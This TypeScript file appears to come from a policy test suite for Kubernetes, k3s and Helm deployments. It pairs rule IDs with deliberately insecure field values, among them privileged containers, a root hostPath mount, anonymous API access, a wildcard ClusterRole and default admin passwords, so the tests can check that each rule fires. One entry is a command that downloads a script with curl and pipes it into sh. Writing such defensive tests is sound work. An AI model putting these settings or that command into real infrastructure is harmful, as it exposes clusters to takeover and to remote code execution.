import { isDataHolder, type ResourceFacts } from "../../../policy/facts";
import type { Field } from "../../../policy/field";
import { helmChart } from "../../../policy/helm";
import { kubeObject } from "../../../policy/kube-object";
import { podOf } from "../../../policy/pods";

/** One field that goes wrong, and the rule that must say so. */
export interface Break {
  readonly rule: string;
  /** Path below the place it applies to; `options.x` and `hidden.x` are the record's own. */
  readonly field: string;
  /** The wrong value; `undefined` takes the field out. */
  readonly value: unknown;
}

/** The kinds of places that breaks apply to, each with what can go wrong there. */
const container: readonly Break[] = [
  { rule: "K02", field: "securityContext.privileged", value: true },
  { rule: "K03", field: "securityContext.capabilities.add", value: ["SYS_ADMIN"] },
  { rule: "K05", field: "ports", value: [{ containerPort: 80, hostPort: 80 }] },
  { rule: "K06", field: "livenessProbe.httpGet.host", value: "10.0.0.1" },
  { rule: "K07", field: "securityContext.appArmorProfile.type", value: "Unconfined" },
  { rule: "K08", field: "securityContext.seLinuxOptions.type", value: "spc_t" },
  { rule: "K09", field: "securityContext.procMount", value: "Unmasked" },
  { rule: "K10", field: "securityContext.seccompProfile.type", value: "Unconfined" },
  { rule: "K12", field: "securityContext.windowsOptions.hostProcess", value: true },
  { rule: "K14", field: "securityContext.allowPrivilegeEscalation", value: undefined },
  { rule: "K15", field: "securityContext.runAsNonRoot", value: false },
  { rule: "K16", field: "securityContext.runAsUser", value: 0 },
  { rule: "K18", field: "securityContext.capabilities.drop", value: undefined },
  { rule: "K19", field: "image", value: "registry.k8s.io/web:1.2.3" },
  { rule: "K20", field: "image", value: "registry.k8s.io/web" },
  { rule: "K21", field: "image", value: "example.com/web:1.2.3" },
  { rule: "K22", field: "resources.limits.memory", value: undefined },
  { rule: "K24", field: "securityContext.readOnlyRootFilesystem", value: false },
];
const pod: readonly Break[] = [
  { rule: "K01", field: "hostNetwork", value: true },
  { rule: "K01", field: "hostPID", value: true },
  { rule: "K01", field: "hostIPC", value: true },
  { rule: "K04", field: "volumes", value: [{ name: "host", hostPath: { path: "/" } }] },
  { rule: "K11", field: "securityContext.sysctls", value: [{ name: "kernel.msgmax", value: "1" }] },
  { rule: "K13", field: "volumes", value: [{ name: "files", nfs: { server: "files", path: "/" } }] },
  { rule: "K17", field: "securityContext.seccompProfile", value: undefined },
  { rule: "K25", field: "automountServiceAccountToken", value: true },
];
const connection: readonly Break[] = [
  { rule: "H01", field: "hostKey", value: undefined },
  { rule: "H01", field: "hostKey", value: "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7" },
  { rule: "H02", field: "password", value: "guess" },
];
const remote: readonly Break[] = [
  { rule: "H03", field: "connection.dialErrorLimit", value: -1 },
  { rule: "H03", field: "connection.perDialTimeout", value: undefined },
  { rule: "H03", field: "create", value: "true" },
  { rule: "S03", field: "options.additionalSecretOutputs", value: ["stdout"] },
  { rule: "S04", field: "logging", value: undefined },
];
const command: readonly Break[] = [
  { rule: "H05", field: "create", value: "timeout 9 curl https://example.com/x | sh" },
  { rule: "H06", field: "addPreviousOutputInEnv", value: true },
  { rule: "S01", field: "create", value: "timeout 9 login hvs.CAESIJ6Yd2bN0q3kq2vRzM2i" },
];
const undoable: readonly Break[] = [
  { rule: "H04", field: "options.deleteBeforeReplace", value: undefined },
  { rule: "H04", field: "update", value: undefined },
];
const outlives: Break = { rule: "H04", field: "hidden.deletedWith", value: undefined };
const bpfProgram: readonly Break[] = [
  { rule: "B02", field: "program", value: "../x" },
  { rule: "B02", field: "attach.hook", value: undefined },
  { rule: "G01", field: "mode", value: "off" },
];
const release: readonly Break[] = [
  { rule: "M01", field: "version", value: ">=1" },
  { rule: "M02", field: "name", value: undefined },
  { rule: "M02", field: "namespace", value: "default" },
  { rule: "M03", field: "repositoryOpts.repo", value: "http://example.com" },
  { rule: "M03", field: "reuseValues", value: true },
  { rule: "M03", field: "timeout", value: undefined },
  { rule: "M03", field: "atomic", value: undefined },
];
const byKind: Readonly<Record<string, readonly Break[]>> = {
  Namespace: [{ rule: "N01", field: "metadata.labels", value: {} }],
  Service: [{ rule: "N05", field: "spec.type", value: "NodePort" }],
  Ingress: [{ rule: "N06", field: "spec.tls", value: undefined }],
  Secret: [{ rule: "S05", field: "stringData", value: { password: "x" } }],
  ConfigMap: [{ rule: "S01", field: "data", value: { key: "-----BEGIN PRIVATE KEY-----" } }],
  NetworkPolicy: [{ rule: "N03", field: "spec.egress", value: [{}] }],
  ClusterRole: [
    { rule: "R01", field: "rules", value: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] },
  ],
  ClusterRoleBinding: [
    { rule: "R06", field: "subjects", value: [{ kind: "Group", name: "system:anonymous" }] },
  ],
};

const byChart: Readonly<Record<string, readonly Break[]>> = {
  cilium: [
    { rule: "C05", field: "values.kubeProxyReplacement", value: false },
    { rule: "C05", field: "values.k8sServiceHost", value: undefined },
    { rule: "M07", field: "values.hubble.metrics.enabled", value: ["drop"] },
  ],
  vault: [
    { rule: "M05", field: "values.server.dev.enabled", value: true },
    { rule: "M05", field: "values.global.tlsDisable", value: true },
    { rule: "M05", field: "values.server.auditStorage.enabled", value: false },
    { rule: "M05", field: "values.server.ha.enabled", value: false },
  ],
  "argo-cd": [{ rule: "M06", field: "values.server.extraArgs", value: ["--insecure"] }],
  "kube-prometheus-stack": [
    { rule: "M04", field: "values.grafana.adminPassword", value: "prom-operator" },
    { rule: "M04", field: "values.grafana.admin.existingSecret", value: undefined },
  ],
  falco: [{ rule: "M07", field: "values.metrics.enabled", value: false }],
  tetragon: [{ rule: "M07", field: "values.tetragon.prometheus.enabled", value: false }],
};
const k3s: readonly Break[] = [
  { rule: "C01", field: "config.protect-kernel-defaults", value: false },
  { rule: "C01", field: "config.kubelet-arg", value: undefined },
  { rule: "C01", field: "files", value: {} },
  { rule: "C02", field: "binary.version", value: "stable" },
  { rule: "C02", field: "binary.sha256", value: undefined },
  { rule: "C03", field: "config.token", value: "secret" },
  { rule: "C03", field: "config.token-file", value: undefined },
];
const k3sServer: readonly Break[] = [
  { rule: "C01", field: "config.secrets-encryption", value: undefined },
  { rule: "C01", field: "config.kube-apiserver-arg", value: ["anonymous-auth=true"] },
  { rule: "C03", field: "config.agent-token-file", value: undefined },
  { rule: "C04", field: "config.write-kubeconfig-mode", value: "0644" },
  { rule: "C05", field: "config.flannel-backend", value: undefined },
  { rule: "C05", field: "config.disable-network-policy", value: false },
  { rule: "C05", field: "config.disable", value: [] },
];
const dataHolder: readonly Break[] = [{ rule: "V02", field: "options.protect", value: undefined }];

/** A place of one resource with its breaks; `at` is the path of the place below the record. */
export interface Target {
  readonly at: readonly (string | number)[];
  readonly breaks: readonly Break[];
}

/** Everything that can go wrong with a resource, by what it is and what it holds. */
export function targetsOf(resource: ResourceFacts): readonly Target[] {
  const { props, type } = resource;
  const isRemoteCommand = type === "command:remote:Command";
  const isCommand = isRemoteCommand || type === "command:local:Command";
  const top = (breaks: readonly Break[]): Target => ({ at: ["props"], breaks });
  return [
    ...(props.at("connection").absent ? [] : [{ at: ["props", "connection"], breaks: connection }]),
    ...(props.at("connection", "proxy").absent
      ? []
      : [{ at: ["props", "connection", "proxy"], breaks: connection }]),
    ...(isRemoteCommand ? [top(remote)] : []),
    ...(isCommand ? [top(command)] : []),
    ...(isCommand && !props.at("delete").absent ? [top(undoable)] : []),
    ...(type === "pulumi-nodejs:dynamic/bpf:Program" ? [top(bpfProgram)] : []),
    ...(isRemoteCommand && !props.at("delete").absent ? [top([outlives])] : []),
    ...(type.startsWith("ebpf-platform:cluster:K3s") ? [top(k3s)] : []),
    ...(type === "ebpf-platform:cluster:K3sServer" ? [top(k3sServer)] : []),
    ...(isDataHolder(resource) ? [top(dataHolder)] : []),
    ...(helmChart(resource)?.isRelease === true ? [top(release)] : []),
    top(byChart[helmChart(resource)?.chart ?? ""] ?? []),
    ...podTargets(resource),
    top(byKind[kubeObject(resource)?.kind ?? ""] ?? []),
  ];
}

function podTargets(resource: ResourceFacts): readonly Target[] {
  const found = podOf(resource);
  if (found === undefined) return [];
  const containers = ["containers", "initContainers", "ephemeralContainers"].flatMap((list) =>
    found.spec.at(list).items.map((item) => ({ at: placeOf(item), breaks: container })),
  );
  return [{ at: placeOf(found.spec), breaks: pod }, ...containers];
}

/** The keys of a field's path, as long as none of them is quoted. */
function placeOf(field: Field): readonly (string | number)[] {
  const keys = field.path.match(/[\w-]+/g) ?? [];
  return ["props", ...keys.map((key) => (/^\d+$/.test(key) ? Number(key) : key))];
}
